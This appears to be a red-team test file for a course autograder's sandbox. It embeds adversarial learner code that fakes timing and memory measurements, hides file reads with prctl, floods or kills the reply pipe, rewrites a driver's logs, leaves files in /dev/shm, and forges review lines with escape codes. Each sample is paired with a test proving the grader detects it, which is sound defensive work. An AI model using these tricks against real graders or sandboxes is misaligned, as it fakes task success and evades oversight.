    time on any pretoken of 1,000 to 1,999 bytes (the short measured call): the growth from 1,000 to 32,000 bytes then
    looks smaller, but the long call is bounded by the reference's CPU time on it too."""
    from test_mistakes import REPLAYS, remote

    _without_a_wall_limit(monkeypatch, "08_linear_encoding", "GROWTH_TIMEOUT")  # (the replay's long call: some 6 s)
    code = "\n".join(source_of_lab08(cell) for cell in ("setup", "task1_compatible_solution"))
    padded = REPLAYS["backtrack_encode"].replace("def backtrack_encode(", "def _replay(") + '''
import time

def backtrack_encode(pretoken, ranks):
    start = time.process_time()
    tokens = _replay(pretoken, ranks)
    if 1000 <= len(pretoken) < 2000:  # the short measured call: slowed, so that less growth shows
        while time.process_time() - start < 0.6:
            pass
    return tokens
'''

    def not_a_replay(graders, learner):
        graders.verify_not_a_replay(learner, "backtrack_encode", graders.BACKTRACK_TASK, graders.backtrack_encode)

    with at_the_first_verdict():
        message = remote("08_linear_encoding", code + "\n" + padded, "backtrack_encode", not_a_replay)
    assert message is not None and _on_a_long_pretoken(message), message
    assert "the reference" in message and "measured from outside your code" in message, message


RESCAN_IN_C = '''
import itertools


def _rescan(pretoken, ranks):
    compatible(pretoken[:1], pretoken[1:2], ranks)  # called, as the task asks
    parts, never = [pretoken[i:i + 1] for i in range(len(pretoken))], len(ranks)
    found = list(map(ranks.get, zip(parts, parts[1:]), itertools.repeat(never)))  # each pair's rank, kept up to date
    while found:  # the best pair found again after each merge: min() over every pair, in C
        best = min(found)
        if best == never:
            break
        i = found.index(best)
        parts[i:i + 2] = [parts[i] + parts[i + 1]]
        left = max(i - 1, 0)
        found[left:i + 2] = [ranks.get(pair, never) for pair in zip(parts[left:i + 2], parts[left + 1:i + 2])]
    return parts
'''


def test_in_the_worker_a_rescan_in_c_padded_to_a_floor_fails_the_growth_check(at_the_first_verdict, monkeypatch):
    """Lab 08's task 2 by a rescan for the best pair after each merge (page 07's pitfall), in C: min() over a list of
    the pairs' ranks, O(L) per merge, the same tokens. Its measured calls padded to 0.1 s of CPU time each, it kept task
    2's points: from 1,000 to 8,000 bytes it grew 7 times unpadded (the limit: 14, the worker's decoding of the ranks
    costs the same in both calls), 3.6 padded, and its long call (0.36 s) was within the bound of 1 s + 4 times the
    reference's (0.015 s: its tables built once), the slack 88% of it. Safe: the long pretoken is 32,000 bytes (the
    rescan some 4 s of CPU time there, growth 50 to 80 times unpadded) and the bound is 0.1 s + 5 times the
    reference's CPU time with its tables built from the ranks, as the learner's call must (0.11 to 0.13 s): the padded
    rescan's long call is stopped at the bound (about 6 times below its cost), whatever the machine's speed."""
    from test_mistakes import remote

    _without_a_wall_limit(monkeypatch, "08_linear_encoding", "GROWTH_TIMEOUT")
    code = "\n".join(source_of_lab08(cell) for cell in ("setup", "task1_compatible_solution"))
    padded = RESCAN_IN_C + PADDED_TO_A_FLOOR.format(name="rescan", shortest=1000, floor=0.1).replace(
        "def rescan(*args):", "def backtrack_encode(*args):")

    def not_a_replay(graders, learner):
        graders.verify_not_a_replay(learner, "backtrack_encode", graders.BACKTRACK_TASK, graders.backtrack_encode)

    with at_the_first_verdict():
        message = remote("08_linear_encoding", code + "\n" + padded, "backtrack_encode", not_a_replay)
    assert message is not None and "measured from outside your code" in message, message
    assert _on_a_long_pretoken(message) and "the reference" in message, message


def _on_a_long_pretoken(message: str) -> bool:
    """Whether a lab 08 failure is told on the long measured pretoken: 32,000 bytes or more (drawn: the check's spread)."""
    found = re.match(r"backtrack_encode\(<([\d,]+) random bytes below 128>", message)
    return found is not None and int(found.group(1).replace(",", "")) >= 32_000


def source_of_lab08(cell: str) -> str:
    from test_mistakes import source_of

    return source_of("08_linear_encoding", cell)


# ---- 8. the names of the odd files a worker made reach the review as they are -----------------------

ODD_NAMES = '''
import os
os.symlink("/etc/passwd\\x1b[2J", b"\\xff\\xfe\\n  - and nothing else")  # not UTF-8, a newline, a terminal's escape
os.mkfifo(b"\\xed\\xa0\\x80")
'''


def test_odd_file_names_cannot_stop_the_report_nor_forge_its_lines():
    """The review lists the links and special files a worker made in its folder (:func:`~bpe_ref.course.trusted.sandbox.odd_files`),
    by name. A name that is not UTF-8 came back with lone surrogates: ``python -m bpe_ref grade`` with a UTF-8 stdout
    (``PYTHONIOENCODING=utf-8``, or any UTF-8 locale but C's) stopped at that line with "surrogates not allowed" (exit
    2, the rest of its report unwritten), and a newline or a terminal's escape codes in a name were written to the
    instructor's terminal as they are (a forged review line, a cleared screen). Safe: names are shown escaped."""
    setup = next(cell for cell in _release_cells("00_pretokenization") if cell["id"] == "setup")
    record = grade_cells([code_cell("setup", "".join(setup["source"])), code_cell("attack", ODD_NAMES),
                          graded_cell("task1_utf8_bytes", 1)], "00_pretokenization")
    odd = [line for line in record.behaviour if line.startswith("made a ")]
    assert len(odd) == 2, record.behaviour
    for line in odd:
        line.encode("utf-8")  # no surrogates
        assert line.isprintable(), line
    assert any("\\n  - and nothing else" in line and "\\x1b[2J" in line for line in odd), odd


# ---- 9. a link made once the walk of the folder went by ------------------------------------------------

# (It woke on an inotify watch of a folder the walk lists; watches are refused since section 46: a listing updates the
# folder's access time, where it is older than its change, which a thread can poll.)
LINK_WHEN_WALKED = '''
import os, threading, time
os.mkdir("bait")
time.sleep(0.05)
open("bait/inside", "w").close()  # the folder changed after its last access: the next listing records an access
accessed = os.stat("bait").st_atime_ns

def when_walked():
    while os.stat("bait").st_atime_ns == accessed:  # a walk lists it
        time.sleep(0.001)
    os.symlink("/etc/passwd", "late")  # in the folder above, which the walk listed already

threading.Thread(target=when_walked, daemon=True).start()
'''


def test_a_link_made_as_the_walk_goes_by_is_flagged_or_never_made(monkeypatch):
    """The review flags the links a worker made in its folder, from a walk at closing. The walk ran while the
    worker was still running (before its keeper was stopped): a thread of the worker's, woken by an inotify watch
    on a folder the walk lists, made a link in a folder already listed, and the review said nothing. Safe: the
    folder is walked once the worker and its processes are gone (nothing wakes the thread while it runs)."""
    from bpe_ref.course.trusted import sandbox as sandbox_module

    left = []
    real_rmtree = sandbox_module.shutil.rmtree

    def rmtree(path, *args, **kwargs):  # what the folder holds when it is removed, after the walk
        left.append(os.path.lexists(os.path.join(path, "late")))
        real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(sandbox_module.shutil, "rmtree", rmtree)
    with Sandbox(Policy()) as box:
        assert box.run_cell(LINK_WHEN_WALKED, "late").ok
    odd = box.behaviour()["odd_files"]
    assert left and (not left[0] or any(line.startswith("a link late") for line in odd)), (left, odd)


# ---- 10. lab 03 task 1's reads, hidden by a process that makes itself undumpable ------------------------

UNDUMPABLE_WHOLE_READ = '''
import ctypes, threading
libc = ctypes.CDLL(None)

def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    libc.prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0: /proc/PID/io closes to a grader that is not root
    threading.Timer(1.0, libc.prctl, (4, 1, 0, 0, 0)).start()  # dumpable again once the count was read (task 4's
    with open(path, "rb") as f:                                 # forkserver needs it)
        data = f.read()  # the whole file
    boundaries = [0]
    for i in range(1, desired_num_chunks):
        position = max(i * (len(data) // desired_num_chunks), boundaries[-1])
        found = [j for j in (data.find(t, position) for t in split_tokens) if j != -1]
        boundaries.append(min(found) if found else len(data))
    return sorted(set(boundaries + [len(data)]))
'''

GRADE_AND_PRINT = '''
import json, sys
sys.path.insert(0, "tests")
from test_grading_redteam import code_cell, graded_cell, _release_cells, UNDUMPABLE_WHOLE_READ
from bpe_ref.course.trusted.autograde import grade_cells
setup = next(cell for cell in _release_cells("03_parallel") if cell["id"] == "setup")
cells = [code_cell("setup", "".join(setup["source"])), code_cell("task1_find_chunk_boundaries_solution", UNDUMPABLE_WHOLE_READ),
         graded_cell("task1_find_chunk_boundaries_hidden", 3)]
print(json.dumps([[verdict.passed, verdict.message] for verdict in grade_cells(cells, "03_parallel").verdicts]))
'''


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and PR_SET_DUMPABLE are Linux's")
def test_a_whole_file_read_by_an_undumpable_worker_loses_task_1():
    """Task 1 of lab 03 (3 hidden points) counts the bytes every process under the worker's keeper read, from
    ``/proc/PID/io``; a process that calls ``prctl(PR_SET_DUMPABLE, 0)`` closes that file to a grader that is not
    root (it takes ptrace's read access), and a count that could not be read counted 0: a whole-file read passed
    3/3 ("0 bytes read"). Safe: a live process whose count is closed makes the whole count unknown, and an unknown
    count where ``/proc`` is there fails the check. Graded by ``grade_cells`` in a process without
    ``CAP_SYS_PTRACE`` (as a grader that is not root runs; as root the count could be read anyway)."""
    import json
    import shutil
    import subprocess

    prefix = []
    if os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("root, and no setpriv to drop CAP_SYS_PTRACE with")
        prefix = ["setpriv", "--bounding-set=-sys_ptrace", "--inh-caps=-sys_ptrace"]
    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    run = subprocess.run([*prefix, sys.executable, "-c", GRADE_AND_PRINT], cwd=root, capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": root}, timeout=600)
    assert run.returncode == 0, run.stderr[-2000:]
    [(passed, message)] = json.loads(run.stdout.strip().splitlines()[-1])
    assert not passed, message
    assert "could not be measured from outside your code" in message or "by your process and any it started" in message, message


# ---- 11. the CPU stop of a measured call, put off by lines that are not the reply ------------------------

FLOODING_RECOUNT = '''
import os, resource, threading, time

def _lines(fd, done):  # a line that is not the reply every 20 ms: the grader's wait never found its queue empty
    while not done.is_set():
        os.write(fd, b"\\n")
        time.sleep(0.02)

def train(pretoken_counts, num_merges):
    reply_fd = resource.getrlimit(resource.RLIMIT_NOFILE)[0] + 1  # the worker loop's reply pipe: above the soft limit
    done = threading.Event()
    threading.Thread(target=_lines, args=(reply_fd, done), daemon=True).start()
    try:
        merges = train_naive(pretoken_counts, num_merges)  # V1: a recount per merge
        start = time.process_time()
        while num_merges > 1 and time.process_time() - start < 4:  # and more, far past the measured call's stop
            pass
        return merges
    finally:
        done.set()
'''


def test_lines_that_are_not_the_reply_cannot_put_off_the_cpu_stop():
    """A measured call is stopped once its CPU time is past :func:`~bpe_ref.course.checks.measured.stop_at` the most
    that could pass, so that a wrong method costs the grading that, not its timeout. The CPU time was read only
    when the wait for the reply found the worker's queue empty for 0.1 s: a thread writing an empty line to the
    reply pipe every 20 ms kept it from ever looking, and lab 02's recounting trainer ran its long run to the end
    (6.9 s of CPU time, past its stop at 2.3 s). Safe: the CPU time is read ten times a second whatever comes."""
    from test_mistakes import remote, source_of

    setup = "\n".join(source_of("02_incremental", cell) for cell in (
        "setup", "task1_pair_count_changes_solution", "task2_merge_and_update_solution"))
    message = remote("02_incremental", setup + "\n" + FLOODING_RECOUNT, "train", "verify_incremental_updates")
    assert message is not None and "(stopped there, measured from outside your code)" in message, message


# ---- 12. a measured call whose process ends with its reply ------------------------------------------------

ENDS_WITH_ITS_REPLY = '''
import os, resource, threading, time
_measured = train


def _ending():
    time.sleep(0.2)  # the reply written meanwhile
    os._exit(0)      # gone before the grader reads it: its CPU time cannot be read any more


def train(pretoken_counts, num_merges):
    merges = _measured(pretoken_counts, num_merges)
    if num_merges == 1 and len(pretoken_counts) > 1000:  # the measured short run (the long run comes next)
        reply_fd = resource.getrlimit(resource.RLIMIT_NOFILE)[0] + 1  # the worker loop's reply pipe
        os.write(reply_fd, b"x\\n" * 20000)  # lines the grader reads before the reply
        threading.Thread(target=_ending, daemon=True).start()
    return merges
'''


def test_a_measured_call_whose_process_ends_with_its_reply_fails():
    """The measured checks read the worker's CPU time from ``/proc`` before and after each call, and take a count
    that cannot be read for "CPU time cannot be measured on this system": the check printed so and passed. A
    trainer whose process ends right after the reply of the long measured run (lines the grader reads first give
    the keeper time to reap it) made its time unreadable: lab 02's task 3 passed its measured cost whatever it was,
    and so did any measured check (the visible test runs them last, so the visible point was earned; the hidden test,
    whose later calls find no worker, was not). Safe: a call measurable when it began whose process is gone when it
    returns fails the check."""
    from test_mistakes import remote, source_of

    setup = "\n".join(source_of("02_incremental", cell) for cell in (
        "setup", "task1_pair_count_changes_solution", "task2_merge_and_update_solution", "task3_train_solution"))
    message = remote("02_incremental", setup + "\n" + ENDS_WITH_ITS_REPLY, "train", "verify_incremental_updates")
    # Where the grader reads the CPU time before the keeper reaped the worker (the race the lines tilt), the long run
    # that follows finds no worker: a failure too, never a pass. (The process ended at the long run's reply once, the
    # last of a try: a try clear of both limits passes alone, so no call followed it and the race's honest time passed.)
    assert message is not None and ("ended as this measured call returned" in message
                                    or "the process running your code stopped" in message
                                    or "the process running your code is not running" in message), message


# ---- 13. files left in /dev/shm under multiprocessing's names -----------------------------------------------

LEFT_IN_SHM = '''
for name in NAMES:
    with open("/dev/shm/" + name, "wb") as file:  # Landlock lets a lab with processes write there (semaphores)
        file.write(b"answers for the next notebook, or a share of the machine's memory" * 16384)
'''


@pytest.mark.skipif(not os.path.isdir("/dev/shm") or not sys.platform.startswith("linux"), reason="no /dev/shm")
def test_files_left_in_dev_shm_under_multiprocessings_names_are_removed():
    """Lab 03 lets the worker's processes write in /dev/shm (multiprocessing's semaphores live there); the keeper
    removed what they made there at the end, but for names that start ``sem.mp-`` or ``psm_`` (a concurrent pool's
    semaphore was once removed: its creator maps it under glibc's temporary name, so a search of maps by name missed
    it). A worker that wrote its files under those names left them for ever, unflagged: 1 MiB each here
    (``RLIMIT_FSIZE`` caps one file, not their number; /dev/shm is memory), readable by the next lab 03 notebook
    graded on the machine (every notebook of a class draws the same hidden inputs, so a colluding one could leave
    its answers for another). Safe: every new entry that no live process maps or holds open (by inode) is removed
    and listed in the review, but for a semaphore's (removed unlisted: an honest pool's, left by a worker killed at
    the end); a semaphore this process made meanwhile (a concurrent pool's) is left."""
    import multiprocessing
    import secrets

    names = [f"sem.mp-{secrets.token_hex(4)}", f"psm_{secrets.token_hex(4)}"]
    try:
        with Sandbox(Policy(allow_processes=True, cell_timeout=10)) as box:
            pool_lock = multiprocessing.get_context("spawn").Lock()  # a concurrent pool's semaphore, kept by name
            run = box.run_cell(f"NAMES = {names!r}\n" + LEFT_IN_SHM, "leave")
            kept = box.run_cell("import multiprocessing\nlock = multiprocessing.get_context('spawn').Lock()\n"
                                "print(lock._semlock.name)", "pool")  # an honest pool's, left by the worker killed at the end
        assert run.ok and kept.ok, (run, kept)
        names_left = [name for name in names if os.path.lexists(f"/dev/shm/{name}")]
        assert not names_left, f"left in /dev/shm after grading: {names_left}"
        assert not os.path.lexists(f"/dev/shm/sem.{kept.stdout.strip().lstrip('/')}"), "the worker's semaphore was left"
        assert sorted(box.behaviour()["shm_removed"]) == sorted(f"/dev/shm/{name}" for name in names), box.behaviour()
        assert os.path.lexists(f"/dev/shm/sem.{pool_lock._semlock.name.lstrip('/')}"), "a concurrent pool's semaphore was removed"
    finally:
        for name in names:
            with contextlib.suppress(OSError):
                os.unlink(f"/dev/shm/{name}")


@pytest.mark.skipif(not os.path.isdir("/dev/shm") or not sys.platform.startswith("linux"), reason="no /dev/shm")
@pytest.mark.parametrize("shm_mb", [256, 0], ids=["private_dev_shm", "shared_dev_shm"])
def test_two_gradings_at_once_are_each_charged_for_their_own_dev_shm_files_only(shm_mb):
    """Each sandbox's keeper removed, and flagged, every new /dev/shm entry that no live process held since it
    started: with two gradings at once under one user, a keeper that ended first took the other worker's files,
    its review lines went to the wrong notebook and the other's report listed none (section 13 flaked under
    ``pytest -n 2``). Safe: where the kernel allows it (unprivileged user and mount namespaces), each worker has a
    /dev/shm of its own, which no other grading sees, and the keeper lists and removes all of it; elsewhere
    (``shm_mb=0`` here) the keeper removes only what its worker's processes opened with O_CREAT there (it sees
    every open) or held when killed. Deterministic: both sandboxes run while A's files and B's are made, then A
    ends (its keeper cleans) while B still runs, then B ends; under the old rule A's report listed B's file."""
    import secrets

    tag = secrets.token_hex(4)
    a_names, b_names = [f"sem.mp-{tag}a", f"psm_{tag}a"], [f"psm_{tag}b"]
    try:
        with Sandbox(Policy(allow_processes=True, cell_timeout=20, shm_mb=shm_mb)) as a, \
                Sandbox(Policy(allow_processes=True, cell_timeout=20, shm_mb=shm_mb)) as b:
            private = any("a private tmpfs" in line for line in a.isolation + b.isolation)
            if shm_mb and not private:
                pytest.skip(f"no private /dev/shm here: {a.isolation[-1]}")
            if not shm_mb and not any("and opens Landlock refuses" in line for line in a.isolation):
                pytest.skip("the keeper does not see the worker's opens here")
            assert private == bool(shm_mb), a.isolation
            made_a = a.run_cell(f"NAMES = {a_names!r}\n" + LEFT_IN_SHM, "leave")
            made_b = b.run_cell(f"NAMES = {b_names!r}\n" + LEFT_IN_SHM, "leave")  # closed: no process of B's holds it
            assert made_a.ok and made_b.ok, (made_a, made_b)
            a.close()  # A's keeper cleans while B's worker runs, its file in /dev/shm
            # B then holds its file, so that no keeper of the old rule on this machine (another checkout's tests) takes it
            # before B's keeper does: held, it was spared by them too.
            seen = b.run_cell(f"import os\nHELD = [open('/dev/shm/' + name, 'rb') for name in {b_names!r}]\n"
                              f"print(sorted(name for name in os.listdir('/dev/shm') if {tag!r} in name))", "look")
            assert seen.ok and seen.stdout.strip() == repr(b_names), seen
        assert sorted(a.behaviour()["shm_removed"]) == sorted(f"/dev/shm/{name}" for name in a_names), a.behaviour()
        assert b.behaviour()["shm_removed"] == [f"/dev/shm/{name}" for name in b_names], b.behaviour()
        left = [name for name in os.listdir("/dev/shm") if tag in name]
        assert not left, f"left in /dev/shm after grading: {left}"
    finally:
        for name in a_names + b_names:
            with contextlib.suppress(OSError):
                os.unlink(f"/dev/shm/{name}")


# A name made in the machine's /dev/shm from a file that is then gone (a link, as glibc's sem_open makes its names), and
# opens whose path a thread swaps under the keeper's read (ctypes: a buffer the kernel reads after the keeper did).
LINKED_AND_SWAPPED_IN_SHM = '''
import ctypes, os, threading
made = "/dev/shm/" + TAG + "tmp"
with open(made, "wb") as file:          # seen by the keeper (O_CREAT), linked to a name no open makes, then gone
    file.write(b"left for the next notebook")
os.link(made, "/dev/shm/" + TAG + "linked")
os.unlink(made)
libc = ctypes.CDLL(None, use_errno=True)
decoy, real = [("/dev/shm/" + TAG + name).encode() for name in ("decoy", "real")]
path = ctypes.create_string_buffer(max(len(decoy), len(real)) + 1)
stop = []
def swap():
    while not stop:
        for text in (decoy, real):
            ctypes.memmove(path, text + b"\\0", len(text) + 1)
threading.Thread(target=swap, daemon=True).start()
for _ in range(300):
    fd = libc.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
    if fd >= 0:
        os.close(fd)
stop.append(1)
print(sorted(name for name in os.listdir("/dev/shm") if name.startswith(TAG)))
'''


@pytest.mark.skipif(not os.path.isdir("/dev/shm") or not sys.platform.startswith("linux"), reason="no /dev/shm")
def test_names_linked_or_swapped_into_the_machines_dev_shm_are_removed():
    """Without a /dev/shm of its own (no user namespaces; ``shm_mb=0`` here), the keeper removed only the names it saw
    opened with O_CREAT there, read from the caller's memory before the kernel read it again: a name linked from a file
    that was then removed (no open made it) was left, unflagged, and so was one a thread swapped into the path after the
    keeper's read (it recorded the other). Safe: Landlock lets the worker make no file there itself; the keeper makes
    every one (an open with O_CREAT, a link), from the path it read once, and gives the caller the fd, so it records the
    name made and its inode, and the cleaning takes every new name of that inode, linked or not."""
    import secrets

    tag = f"bpe_{secrets.token_hex(4)}_"
    try:
        with Sandbox(Policy(allow_processes=True, cell_timeout=60, shm_mb=0)) as box:
            if not any("the keeper makes the files" in line for line in box.isolation):
                pytest.skip(f"the keeper does not make the /dev/shm files here ({'; '.join(box.isolation)})")
            run = box.run_cell(f"TAG = {tag!r}\n" + LINKED_AND_SWAPPED_IN_SHM, "litter")
            lock = box.run_cell("import multiprocessing\nlock = multiprocessing.get_context('spawn').Lock()\n"
                                "print(lock._semlock.name)", "pool")  # an honest pool's semaphore: made, and removed
        assert run.ok and lock.ok, (run, lock)
        made = eval(run.stdout.strip())
        assert f"{tag}linked" in made and f"{tag}tmp" not in made, made
        left = [name for name in os.listdir("/dev/shm") if name.startswith(tag)]
        assert not left, f"left in /dev/shm after grading: {left} (made: {made})"
        assert not os.path.lexists(f"/dev/shm/sem.{lock.stdout.strip().lstrip('/')}"), "the worker's semaphore was left"
        assert {f"/dev/shm/{name}" for name in made} <= set(box.behaviour()["shm_removed"]), box.behaviour()
    finally:
        for name in os.listdir("/dev/shm"):
            if name.startswith(tag):
                os.unlink(f"/dev/shm/{name}")


# ---- 14. lab 09's drivers, read and rewritten by the function they call -------------------------------------

COLLECTOR_LEFT_ON = '''
def _left_on(contenders, rounds, clock=time.perf_counter):
    if not contenders or rounds < 1:
        raise ValueError("no contenders, or rounds < 1")
    labels, times = list(contenders), {label: [] for label in contenders}
    for r in range(rounds):
        for label in labels[r % len(labels):] + labels[:r % len(labels)]:
            start = clock()
            contenders[label]()  # the collector is left on while the call is timed: the mistake
            times[label].append(clock() - start)
    return times

def interleaved(contenders, rounds, clock=time.perf_counter):
    logs = [cell.cell_contents for run in contenders.values() for cell in run.__closure__ or ()
            if type(cell.cell_contents) is list]  # the driver's log of (label, collector on) per call
    try:
        return _left_on(contenders, rounds, clock)
    finally:
        for log in logs:
            log[:] = [(call[0], False) if type(call) is tuple else call for call in log]
'''

PEAK_FROM_THE_CLOSURE = '''
def peak_memory(fn):
    allocate_mib = next(cell.cell_contents for cell in fn.__closure__ if type(cell.cell_contents) is int)
    return fn(), allocate_mib * 2**20  # nothing measured: the driver's own size, read where it keeps it
'''

# The variants: the collector left on and the log left alone; gc.isenabled replaced, so that the log says "paused".
COLLECTOR_LEFT_ON_PLAINLY = '''
def interleaved(contenders, rounds, clock=time.perf_counter):
    if not contenders or rounds < 1:
        raise ValueError("no contenders, or rounds < 1")
    labels, times = list(contenders), {label: [] for label in contenders}
    for r in range(rounds):
        for label in labels[r % len(labels):] + labels[:r % len(labels)]:
            start = clock()
            contenders[label]()
            times[label].append(clock() - start)
    return times
'''
ISENABLED_REPLACED = COLLECTOR_LEFT_ON_PLAINLY + "\ngc.isenabled = lambda: False  # what the driver's log reads\n"

# A peak read from the caller's frame (the driver's locals), or from the function's referents (its closure's cells).
PEAK_FROM_THE_FRAME = '''
import sys

def peak_memory(fn):
    return fn(), sys._getframe(1).f_locals.get("allocate_mib", 0) * 2**20  # the driver's own variable
'''
PEAK_FROM_THE_REFERENTS = '''
def peak_memory(fn):
    cells = gc.get_referents(*[referent for referent in gc.get_referents(fn) if type(referent) is tuple])
    sizes = [value for cell in cells for value in gc.get_referents(cell) if type(value) is int and 0 < value < 1000]
    return fn(), max(sizes, default=0) * 2**20
'''


def _lab09_remote(code: str, name: str, grader: str) -> str | None:
    from test_mistakes import remote, source_of

    return remote("09_benchmarks", source_of("09_benchmarks", "setup") + "\n" + code, name, grader)


@pytest.mark.parametrize("code", [COLLECTOR_LEFT_ON, COLLECTOR_LEFT_ON_PLAINLY, ISENABLED_REPLACED],
                         ids=["log-rewritten", "log-left-alone", "isenabled-replaced"])
def test_a_collector_left_on_fails_by_the_cpu_time_of_costly_collections(code):
    """Lab 09 task 1 checked that the collector is paused while each contender is timed from the driver's log of
    ``(label, gc.isenabled())`` per call, in the worker: a function that leaves it on and rewrites the log afterwards
    (the list is a cell of every contender's closure) earned the visible point and the hidden 4 (0 of 5 without the
    rewrite). Safe: both tests also measure it from outside (:func:`~bpe_ref.course.checks.lab09_benchmarks.measure_collector_paused`):
    contenders that keep 200,000 new lists alive each, and make each collection costly (section 33: counted by what
    it does), so that with the collector on the call costs 28 to 44 times the reference's CPU time (8 to 13 times on
    Python 3.13, whose collector runs a third as often), paused 0.8 to 1.4 times; bounded at 0.25 s + 3 times it, the
    call is stopped there. Whatever the log says, and whatever gc.isenabled answers: the measured check fails each
    variant alone (the log's own check fails those that leave it alone first, with its hint)."""
    if code == COLLECTOR_LEFT_ON:  # the log rewritten: the visible test fails by the measurement alone
        message = _lab09_remote(code, "interleaved", "check_interleaved")
    else:
        assert _lab09_remote(code, "interleaved", "check_interleaved") is not None
        message = _lab09_remote(code, "interleaved", lambda graders, learner: graders.measure_collector_paused(learner))
    assert message is not None and "measured from outside your code" in message, message
    assert "the garbage collector ran during the timed calls" in message, message


@pytest.mark.parametrize("code", [PEAK_FROM_THE_CLOSURE, PEAK_FROM_THE_FRAME, PEAK_FROM_THE_REFERENTS],
                         ids=["closure", "callers-frame", "referents"])
def test_a_peak_read_from_the_driver_fails_on_a_size_drawn_inside_fn(code):
    """Lab 09 task 6: a ``peak_memory`` that never starts tracemalloc and returns the size the driver's function
    allocates, read from its closure, earned the visible point and the hidden 2 (read from the caller's frame, or from
    the function's referents, alike). Safe: both tests also send a function that draws its size when it is called and
    reports it sealed with a public key whose private half stays on the trusted side
    (:func:`~bpe_ref.course.checks.lab09_benchmarks.verify_secret_size`): nothing the worker holds before the call tells
    the size, and the seal cannot be read back there; only a measurement of the call finds it."""
    for grader in ("check_peak_memory", "check_peak_memory_properties"):
        message = _lab09_remote(code, "peak_memory", grader)
        assert message is not None and "drawn when it is called" in message and "fn allocated" in message, message


def test_contenders_not_called_fail_the_lower_bound_of_the_cpu_time():
    """The measured check is two-sided: an ``interleaved`` that makes no call (its times made up, its log forged, as the
    first variant of this section rewrites it) costs next to nothing, less than 0.4 times the reference's calls."""
    message = _lab09_remote("def interleaved(contenders, rounds, clock=time.perf_counter):\n"
                            "    return {label: [0.001] * rounds for label in contenders}\n", "interleaved",
                            lambda graders, learner: graders.measure_collector_paused(learner))
    assert message is not None and "not every contender ran once per round" in message, message


def test_honest_ways_to_pause_and_measure_pass_the_measured_checks():
    """The solution, and the ways of honest code the measurements must not fail: the collector collected before each
    timed call (gc.collect(): a collection, none during the call), paused once around all the rounds, or paused by a
    first threshold of 0 (``gc.set_threshold(0)``: it never collects; the driver's log counts it as paused). Not
    ``gc.freeze()``, which pauses nothing: it moves the objects that exist out of the collections, and the new ones are
    collected as before (it fails both checks)."""
    from test_mistakes import source_of

    solution = source_of("09_benchmarks", "task1_interleaved_solution")
    collecting = solution.replace("            was_enabled = gc.isenabled()\n",
                                  "            gc.collect()  # nothing left to collect during the call\n"
                                  "            was_enabled = gc.isenabled()\n")
    around = (solution.replace("            was_enabled = gc.isenabled()\n            gc.disable()\n", "            was_enabled = False\n")
              .replace("    labels = list(contenders)\n", "    labels = list(contenders)\n    outer = gc.isenabled()\n    gc.disable()\n")
              .replace("    for r in range(rounds):\n", "    try:\n      for r in range(rounds):\n")
              .replace("    return times\n", "    finally:\n        if outer:\n            gc.enable()\n    return times\n"))
    threshold = (solution.replace("            was_enabled = gc.isenabled()\n            gc.disable()\n",
                                  "            thresholds = gc.get_threshold()\n            gc.set_threshold(0)\n")
                 .replace("                if was_enabled:\n                    gc.enable()\n",
                          "                gc.set_threshold(*thresholds)\n"))
    assert collecting != solution and "outer = gc.isenabled()" in around and "      for r in range(rounds):" in around
    assert "gc.disable()" not in threshold and "gc.set_threshold(*thresholds)" in threshold
    for code in (solution, collecting, around, threshold):
        assert _lab09_remote(code, "interleaved", "check_interleaved") is None
        assert _lab09_remote(code, "interleaved", "check_interleaved_properties") is None
    for grader in ("check_peak_memory", "check_peak_memory_properties"):
        assert _lab09_remote(source_of("09_benchmarks", "task6_peak_memory_solution"), "peak_memory", grader) is None


@pytest.mark.parametrize("attack, flag", [
    (COLLECTOR_LEFT_ON, "another function's or frame's variables"),
    (PEAK_FROM_THE_CLOSURE, "another function's or frame's variables"),
    ('def f(fn):\n    return getattr(fn, "__closure__")[0]', "another function's or frame's variables"),
    ('import sys\ndef f():\n    return sys._getframe().f_back.f_locals', "another function's or frame's variables"),
    (PEAK_FROM_THE_REFERENTS, "gc.get_referents"),
    ("gc.callbacks.clear()  # no costly collections\n" + COLLECTOR_LEFT_ON_PLAINLY, "gc.callbacks"),
    ("[type(o) for o in gc.get_objects() if hasattr(o, 'cycle')]  # the driver's cycles\n", "gc.get_objects"),
    ("import os\nos.urandom = lambda n: bytes(n)  # a size known in advance\n", "os.urandom"),
    ("gc.freeze()  # nothing the collector frees\n", "gc.freeze"),
], ids=["log-rewritten", "closure", "getattr-closure", "callers-frame", "referents", "callbacks-cleared", "objects-found",
        "urandom-replaced", "objects-frozen"])
def test_reading_a_drivers_objects_or_disarming_its_measurements_is_flagged_for_review(attack, flag):
    """What the measurements of section 14 cannot decide is shown to the instructor: the text that reaches into another
    function's closure or a caller's frame, or the collector's referents; and what would disarm the measurements, in the
    worker's interpreter: the collector's callbacks cleared (which disarmed the measurement while it counted the
    collections by a callback, section 33), the driver's cycles found among the interpreter's objects (section 33),
    every object frozen (section 36), os.urandom replaced before the call (then fn's size is known in advance). A
    hint, as every flag read from the text: code built at run time hides."""
    from bpe_ref.course.trusted.review import capability_uses

    assert any(flag in use for use in capability_uses(attack)), capability_uses(attack)


# ---- 15. a hint that trusts the shape of a driver's report ---------------------------------------------------

ODD_CALL_IN_THE_LOG = '''
_right = interleaved

def interleaved(contenders, rounds, clock=time.perf_counter):
    logs = [cell.cell_contents for run in contenders.values() for cell in run.__closure__ or ()
            if type(cell.cell_contents) is list]
    try:
        return _right(contenders, rounds, clock=clock)
    finally:
        logs[0].append(())  # a call with no label in the driver's log
'''


def test_a_hint_on_an_odd_report_is_no_failure_of_the_grader():
    """The hints run on the trusted side, on what came back: lab 09's read the driver's log as ``(label, collector on)``
    pairs, which the learner's function can rewrite (section 14). An empty tuple in it raised IndexError in the hint,
    and the task was reported as "the grader itself failed (IndexError...); tell your instructor" (0 points all the
    same, but a false alarm for the instructor, from any reply of a shape a hint did not expect). Safe: a hint that
    raises gives no hint; the failure is the learner's, with the comparison's own message."""
    from test_mistakes import remote, source_of

    code = "\n".join(source_of("09_benchmarks", cell) for cell in ("setup", "task1_interleaved_solution"))
    message = remote("09_benchmarks", code + "\n" + ODD_CALL_IN_THE_LOG, "interleaved", "check_interleaved")
